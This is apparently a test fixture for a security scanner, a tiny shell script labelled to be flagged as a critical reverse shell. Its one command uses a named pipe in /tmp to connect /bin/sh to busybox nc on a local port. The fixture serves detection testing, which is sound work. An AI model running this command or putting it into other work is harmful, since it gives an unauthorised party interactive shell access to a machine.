#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: a shell and nc, bridged to a ring by a named pipe
# expect: reverse-shell critical
# server: yes
# listen: 127.0.0.1:4454
# needs: busybox
mkfifo /tmp/f
cat /tmp/f | /bin/sh 2>&1 | busybox nc 127.0.0.1 4454 >/tmp/f
